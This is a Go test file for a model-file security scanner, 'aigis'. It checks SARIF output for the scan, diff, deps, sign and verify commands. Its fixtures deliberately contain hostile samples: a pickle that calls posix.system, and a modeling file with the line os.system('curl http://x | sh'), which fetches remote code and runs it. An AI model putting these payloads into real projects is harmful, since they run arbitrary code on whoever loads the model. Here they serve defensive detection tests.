package cli

import (
	"encoding/binary"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/aigis-dev/aigis/internal/testutil"
	"github.com/aigis-dev/aigis/internal/testutil/pkl"
	"github.com/aigis-dev/aigis/internal/testutil/sarifschema"
)

// sarifTree writes, below dir/models, files that give every kind of
// location: a pickle with an offset in the file itself, a torch zip inside
// a tar (nested members), a corrupt model (no location), a model
// repository whose modeling code is flagged by line, and a name that needs
// percent-encoding.
func sarifTree(t *testing.T, dir string) {
	t.Helper()
	evil := pkl.New(2).Global("posix", "system").Str("id").Tuple1().Reduce().Stop().Bytes()
	files := map[string][]byte{
		"models/my model.pkl":               evil,
		"models/bundle.tar":                 testutil.Tar(t, testutil.TarEntry{Name: "model.pt", Data: testutil.TorchZip(t, "archive", evil, 0, 0)}),
		"models/broken.pt":                  []byte("this is not a model"),
		"models/repo/config.json":           []byte(`{"architectures": ["X"], "auto_map": {"AutoModel": "sub.modeling_x.XModel"}}`),
		"models/repo/sub/modeling_x.py":     []byte("import os\n\nos.system('curl http://x | sh')\n\nclass XModel:\n    pass\n"),
		"models/repo/model.safetensors":     testutil.SafetensorsModel(nil, testutil.STensor{Name: "w", Shape: []int64{4}, Data: make([]byte, 16)}),
		"models/clean/notes.txt":            []byte("hello"),
		"models/repo/tokenizer_config.json": []byte(`{}`),
	}
	for name, data := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// sarifCheck validates a verb's SARIF output against the SARIF 2.1.0
// schema and GitHub's rules (startLine, fingerprints, rule index, URIs),
// and asserts aigis's own fingerprint on every result.
func sarifCheck(t *testing.T, sch *sarifschema.Schema, r result, wantCode int) *sarifschema.Log {
	t.Helper()
	if r.code != wantCode {
		t.Fatalf("exit %d, want %d\n%s%s", r.code, wantCode, r.stdout, r.stderr)
	}
	log := sch.Check(t, []byte(r.stdout))
	if len(log.Runs) != 1 || log.Runs[0].Tool.Driver.Name != "aigis" {
		t.Fatalf("want one aigis run:\n%s", r.stdout)
	}
	for i, res := range log.Runs[0].Results {
		if res.PartialFingerprints["aigis/v1"] == "" {
			t.Errorf("result %d (%s): no aigis/v1 fingerprint", i, res.RuleID)
		}
		if pl := res.Locations[0].PhysicalLocation; pl.Region == nil || pl.Region.StartLine < 1 {
			t.Errorf("result %d (%s): no startLine", i, res.RuleID)
		}
	}
	return log
}

// where is a result's location as "rule uri:line[+offset] logical".
func where(res sarifschema.Result) string {
	l := res.Locations[0]
	pl := l.PhysicalLocation
	s := res.RuleID + " " + pl.ArtifactLocation.URI + ":" + strconv.Itoa(pl.Region.StartLine)
	if pl.Region.ByteOffset != nil {
		s += "+" + strconv.Itoa(int(*pl.Region.ByteOffset))
	}
	if len(l.LogicalLocations) > 0 {
		s += " " + l.LogicalLocations[0].FullyQualifiedName
	}
	return s
}

// Every verb with -o sarif writes a log that the SARIF 2.1.0 schema and
// GitHub code scanning accept, run the way CI runs it: in the checkout,
// naming paths inside it.
func TestSARIF_EveryVerb(t *testing.T) {
	sch := sarifschema.Load(t) // before Chdir: it finds ../shared from the working directory
	priv, pub := keyPair(t)
	_, otherPub := keyPair(t)
	work, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Chdir(work)

	t.Run("scan", func(t *testing.T) {
		sarifTree(t, work)
		r := runCLI(t, nil, "scan", "-o", "sarif", "--fail-on", "none", "--allow-incomplete", "models")
		log := sarifCheck(t, sch, r, ExitOK)
		got := map[string]int{}
		for _, res := range log.Runs[0].Results {
			got[where(res)]++
			if res.Level != "error" && res.Level != "warning" && res.Level != "note" {
				t.Errorf("%s: level %q", where(res), res.Level)
			}
		}
		for _, want := range []string{
			"pickle-process-exec models/my%20model.pkl:1+2",                       // offset in the file: byteOffset
			"pickle-process-exec models/bundle.tar:1 model.pt>archive/data.pkl@2", // nested: logical location
			"unrecognised-model models/broken.pt:1",                               // no location
			"python-sink-on-load models/repo/sub/modeling_x.py:3",                 // text file line, found by the repository analysis
			"repo-contents models/repo:1 sub/modeling_x.py",                       // a directory
		} {
			if got[want] != 1 {
				t.Errorf("want one result %q; got %v", want, got)
			}
		}
		if !strings.Contains(r.stdout, `"uri": "models/my%20model.pkl"`) || !strings.Contains(r.stdout, `"uriBaseId": "%SRCROOT%"`) {
			t.Errorf("relative URIs:\n%s", r.stdout)
		}

		// The same scan again, and the same tree named by its absolute
		// path: byte for byte the same log (URIs relative to the checkout,
		// the same fingerprints).
		if again := runCLI(t, nil, "scan", "-o", "sarif", "--fail-on", "none", "--allow-incomplete", "models"); again.stdout != r.stdout {
			t.Error("two identical scans differ")
		}
		if abs := runCLI(t, nil, "scan", "-o", "sarif", "--fail-on", "none", "--allow-incomplete", filepath.Join(work, "models")); abs.stdout != r.stdout {
			t.Errorf("an absolute target inside the checkout changed the log:\n%s", abs.stdout)
		}
		// Default --fail-on still fails the build.
		sarifCheck(t, sch, runCLI(t, nil, "scan", "-o", "sarif", "models"), ExitFindings)

		// A tree outside the working directory: absolute file URIs.
		outside := t.TempDir()
		sarifTree(t, outside)
		o := runCLI(t, nil, "scan", "-o", "sarif", "--fail-on", "none", "--allow-incomplete", filepath.Join(outside, "models"))
		for _, res := range sarifCheck(t, sch, o, ExitOK).Runs[0].Results {
			if al := res.Locations[0].PhysicalLocation.ArtifactLocation; !strings.HasPrefix(al.URI, "file:///") || al.URIBaseID != "" {
				t.Errorf("outside the checkout: %+v", al)
			}
		}
	})

	t.Run("diff", func(t *testing.T) {
		os.MkdirAll(filepath.Join(work, "diff"), 0o755)
		base := writeModel(t, filepath.Join(work, "diff"), "base.safetensors", nil)
		edited := writeModel(t, filepath.Join(work, "diff"), "edited.safetensors", func(i int, b []byte) {
			if i == 5 {
				binary.LittleEndian.PutUint32(b[400:], math.Float32bits(9))
			}
		})
		base, _ = filepath.Rel(work, base)
		edited, _ = filepath.Rel(work, edited)
		log := sarifCheck(t, sch, runCLI(t, nil, "diff", "-o", "sarif", base, edited), ExitFindings)
		kinds := map[string]string{}
		for _, res := range log.Runs[0].Results {
			kinds[res.RuleID] = res.Kind + "/" + res.Level
			if u := res.Locations[0].PhysicalLocation.ArtifactLocation.URI; u != "diff/edited.safetensors" {
				t.Errorf("%s: uri %q", res.RuleID, u)
			}
		}
		if kinds["weights-diff-targeted"] != "/warning" || kinds["weights-diff-tensor"] != "informational/none" {
			t.Errorf("diff results: %v", kinds)
		}
		sarifCheck(t, sch, runCLI(t, nil, "diff", "-o", "sarif", base, base), ExitOK)
	})

	t.Run("deps", func(t *testing.T) {
		proj := filepath.Join(work, "proj")
		os.MkdirAll(proj, 0o755)
		os.WriteFile(filepath.Join(proj, "requirements.txt"), []byte("numpy==2.0.0\npytorch-mutex==1.0\n"), 0o644)
		env := map[string]string{"AIGIS_DB": filepath.Join(t.TempDir(), "none.db")}
		log := sarifCheck(t, sch, runCLI(t, env, "deps", "--skip-vulns", "-o", "sarif", "proj"), ExitFindings)
		found := false
		for _, res := range log.Runs[0].Results {
			found = found || where(res) == "deps-impersonation proj/requirements.txt:2"
		}
		if !found {
			t.Errorf("no deps-impersonation on line 2:\n%v", log.Runs[0].Results)
		}
		// A project with nothing to report: an empty, valid run.
		os.MkdirAll(filepath.Join(work, "empty"), 0o755)
		empty := sarifCheck(t, sch, runCLI(t, env, "deps", "--skip-vulns", "-o", "sarif", "empty"), ExitOK)
		if len(empty.Runs[0].Results) != 0 {
			t.Errorf("empty project: %v", empty.Runs[0].Results)
		}
		if j := runCLI(t, env, "deps", "--skip-vulns", "-o", "json", "empty"); !strings.Contains(j.stdout, `"artifacts": [],`) {
			t.Errorf("JSON of an empty project: %s", j.stdout)
		}
	})

	t.Run("sign and verify", func(t *testing.T) {
		model := filepath.Join(work, "bert")
		os.MkdirAll(filepath.Join(model, "tokenizer"), 0o755)
		os.WriteFile(filepath.Join(model, "model.safetensors"), []byte(strings.Repeat("weights", 1000)), 0o644)
		os.WriteFile(filepath.Join(model, "tokenizer", "vocab.json"), []byte(`{"a":1}`), 0o644)
		os.WriteFile(filepath.Join(model, "tokenizer.json"), []byte(`{}`), 0o644)

		s := sarifCheck(t, sch, runCLI(t, nil, "sign", "-o", "sarif", "--private-key", priv, "bert"), ExitOK)
		v := sarifCheck(t, sch, runCLI(t, nil, "verify", "-o", "sarif", "--public-key", pub, "bert"), ExitOK)
		for _, c := range []struct {
			log  *sarifschema.Log
			rule string
		}{{s, "signed"}, {v, "verified"}} {
			res := c.log.Runs[0].Results
			if len(res) != 1 || res[0].RuleID != c.rule || where(res[0]) != c.rule+" bert/model.sig:1" || res[0].Kind != "informational" || res[0].Level != "none" {
				t.Errorf("%s: %+v", c.rule, res)
			}
		}

		// Tampered: a changed, a missing and an extra file.
		os.WriteFile(filepath.Join(model, "tokenizer.json"), []byte(`{"evil":1}`), 0o644)
		os.Remove(filepath.Join(model, "tokenizer", "vocab.json"))
		os.WriteFile(filepath.Join(model, "extra.py"), []byte("import os\n"), 0o644)
		f := sarifCheck(t, sch, runCLI(t, nil, "verify", "-o", "sarif", "--public-key", pub, "bert"), ExitFindings)
		got := map[string]bool{}
		for _, res := range f.Runs[0].Results {
			got[where(res)] = true
			if res.Kind != "" || res.Level != "error" {
				t.Errorf("%s: kind %q level %q", where(res), res.Kind, res.Level)
			}
		}
		for _, want := range []string{"file-modified bert/tokenizer.json:1", "file-missing bert/tokenizer/vocab.json:1", "file-extra bert/extra.py:1"} {
			if !got[want] {
				t.Errorf("no %q in %v", want, got)
			}
		}
		// The wrong key: a failure of the bundle itself.
		w := sarifCheck(t, sch, runCLI(t, nil, "verify", "-o", "sarif", "--public-key", otherPub, "bert"), ExitFindings)
		if res := w.Runs[0].Results; len(res) == 0 || !strings.HasPrefix(where(res[0]), res[0].RuleID+" bert/model.sig:1") || res[0].Level != "error" {
			t.Errorf("wrong key: %+v", res)
		}
	})
}
